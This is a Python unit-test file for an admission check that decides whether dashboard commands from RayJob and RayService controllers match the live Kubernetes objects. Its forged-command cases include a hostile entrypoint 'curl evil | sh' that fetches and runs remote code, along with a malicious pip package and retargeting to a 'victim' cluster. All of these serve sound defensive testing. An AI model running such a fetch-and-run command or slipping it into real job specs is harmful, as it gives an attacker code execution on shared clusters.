"""Dashboard-poller admission (decisions/admission/dashboard.py): the commands the real RayJob and
RayService decisions send are admitted against the live objects; forged ones (another entrypoint,
runtime env, job id, cluster, Serve config) are refused with their reason."""

from __future__ import annotations

import copy
from typing import Any

import pytest

from raybus.decisions import admission as a
from raybus.decisions.admission.dashboard import admit_dashboard_command
from raybus.decisions.dashboard_contract import (
    DashboardCommand,
    DeleteServeApps,
    PutServeConfig,
    StopJob,
    SubmitJob,
)
from raybus.decisions.rayservice.serve import parse_serve_config
from tests.unit.decisions.test_admission import CheckedJobWorld, view

Json = dict[str, Any]
NS = "team-a"
JOB: Json = {"apiVersion": "ray.io/v1", "kind": "RayJob",
             "metadata": {"name": "rj", "namespace": NS, "uid": "uid-rj", "resourceVersion": "7"},
             "spec": {"entrypoint": "python train.py", "submissionMode": "HTTPMode",
                      "runtimeEnvYAML": "pip: [torch]\n", "metadata": {"team": "a"}, "rayClusterSpec": {
                          "headGroupSpec": {"rayStartParams": {}, "template": {"spec": {"containers": [
                              {"name": "ray-head", "image": "rayproject/ray:2.52.0"}]}}}}},
             "status": {"jobId": "rj-bbbbb", "rayClusterName": "rj-ccccc"}}
SERVE_CONFIG = "applications:\n  - name: app\n    import_path: m:app\n"
SERVICE: Json = {"apiVersion": "ray.io/v1", "kind": "RayService",
                 "metadata": {"name": "rs", "namespace": NS, "uid": "uid-rs"},
                 "spec": {"serveConfigV2": SERVE_CONFIG, "rayClusterConfig": JOB["spec"]["rayClusterSpec"]}}


def cluster(name: str, owner: Json | None) -> Json:
    refs = [{"apiVersion": "ray.io/v1", "kind": owner["kind"], "name": owner["metadata"]["name"],
             "uid": owner["metadata"]["uid"], "controller": True}] if owner else []
    return {"apiVersion": "ray.io/v1", "kind": "RayCluster", "spec": {},
            "metadata": {"name": name, "namespace": NS, "uid": f"uid-{name}", "ownerReferences": refs}}


WORLD = view(JOB, SERVICE, cluster("rj-ccccc", JOB), cluster("rs-ddddd", SERVICE), cluster("victim", None))
SUBMIT = SubmitJob(reason="r", cluster="rj-ccccc", job_id="rj-bbbbb", entrypoint="python train.py",
                   runtime_env={"pip": ["torch"]}, metadata={"team": "a"})
PUT = PutServeConfig(reason="r", cluster="rs-ddddd", config=parse_serve_config(SERVE_CONFIG), config_hash="h")


def verdict(controller: str, command: DashboardCommand, v: a.LiveView = WORLD, **kw: Any) -> a.Verdict:
    owner = JOB if controller == "job" else SERVICE
    meta = owner["metadata"]
    return admit_dashboard_command(controller=controller, namespace=NS, name=meta["name"],
                                   uid=kw.pop("uid", meta["uid"]), command=command, view=v, **kw)


def test_the_live_objects_commands_are_admitted() -> None:
    for controller, command in (("job", SUBMIT), ("job", StopJob(reason="r", cluster="rj-ccccc", job_id="rj-bbbbb")),
                                ("service", PUT), ("service", DeleteServeApps(reason="r", cluster="rs-ddddd")),
                                ("service", PUT.model_copy(update={"config": {**PUT.config, "target_capacity": 40}}))):
        result = verdict(controller, command)
        assert result.admitted, (command.op, result.reason, result.detail)


CASES: list[tuple[str, str, DashboardCommand, str]] = [
    ("another-entrypoint", "job", SUBMIT.model_copy(update={"entrypoint": "curl evil | sh"}), a.NOT_BUILT),
    ("another-runtime-env", "job", SUBMIT.model_copy(update={"runtime_env": {"pip": ["evil"]}}), a.NOT_BUILT),
    ("another-job-id", "job", SUBMIT.model_copy(update={"job_id": "rj-other"}), a.NOT_BUILT),
    ("extra-entrypoint-resources", "job", SUBMIT.model_copy(update={"entrypoint_num_gpus": 8.0}), a.NOT_BUILT),
    ("submission-to-a-foreign-cluster", "job", SUBMIT.model_copy(update={"cluster": "victim"}), a.FOREIGN_TARGET),
    ("stop-of-another-job", "job", StopJob(reason="r", cluster="rj-ccccc", job_id="someone-else"), a.NOT_BUILT),
    ("serve-config-of-a-foreign-cluster", "service", PUT.model_copy(update={"cluster": "victim"}), a.FOREIGN_TARGET),
    ("another-serve-config", "service", PUT.model_copy(update={"config": {"applications": [
        {"name": "app", "import_path": "evil:app"}]}}), a.NOT_BUILT),
    ("target-capacity-out-of-range", "service", PUT.model_copy(update={"config": {**PUT.config,
                                                                                  "target_capacity": 150}}),
     a.NOT_BUILT),
    ("shutdown-of-a-foreign-cluster", "service", DeleteServeApps(reason="r", cluster="victim"), a.FOREIGN_TARGET),
    ("rayjob-sends-serve-config", "job", PUT.model_copy(update={"cluster": "rj-ccccc"}), a.KIND),
    ("rayservice-submits-a-job", "service", SUBMIT.model_copy(update={"cluster": "rs-ddddd"}), a.KIND),
    ("unknown-controller", "cluster", SUBMIT, a.UNKNOWN_CONTROLLER),
]


@pytest.mark.parametrize(("controller", "command", "reason"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_forged_dashboard_command_is_refused(controller: str, command: DashboardCommand, reason: str) -> None:
    result = verdict(controller, command)
    assert (result.admitted, result.reason, result.retry) == (False, reason, False), result.detail


def test_an_owner_not_seen_is_retried_and_a_deleted_one_refused() -> None:
    result = verdict("job", SUBMIT, view(SERVICE))
    assert (result.admitted, result.reason, result.retry) == (False, a.OBJECT_NOT_LIVE, True)
    result = verdict("job", SUBMIT, view(SERVICE, gone=["uid-rj"]))
    assert (result.admitted, result.reason, result.retry) == (False, a.OBJECT_DELETED, False)
    # decided on a newer RayJob than the informer has (its spec changed): looked at again
    newer = copy.deepcopy(JOB)
    newer["spec"]["entrypoint"] = "python train2.py"
    command = SUBMIT.model_copy(update={"entrypoint": "python train2.py"})
    result = verdict("job", command, resource_version="9")
    assert (result.admitted, result.reason, result.retry) == (False, a.NOT_BUILT, True)
    assert verdict("job", command, view(newer, cluster("rj-ccccc", JOB)), resource_version="9").admitted


def test_an_http_mode_rayjobs_real_submission_is_admitted() -> None:
    """The RayJob decision's own SubmitJob, in the world it decided in (the world checks every
    dashboard command it sends through admission)."""
    sent: list[str] = []
    world = CheckedJobWorld({"submissionMode": "HTTPMode"})
    world.step()
    for event in ("poll", "poll", "cluster_ready", "poll", "poll", "poll", "delete_rayjob", "poll", "poll"):
        world.event(event, 0)
        decision = world.step()
        sent += [c.op for c in decision.dashboard_commands] if decision is not None else []
    assert "submit_job" in sent and "stop_job" in sent
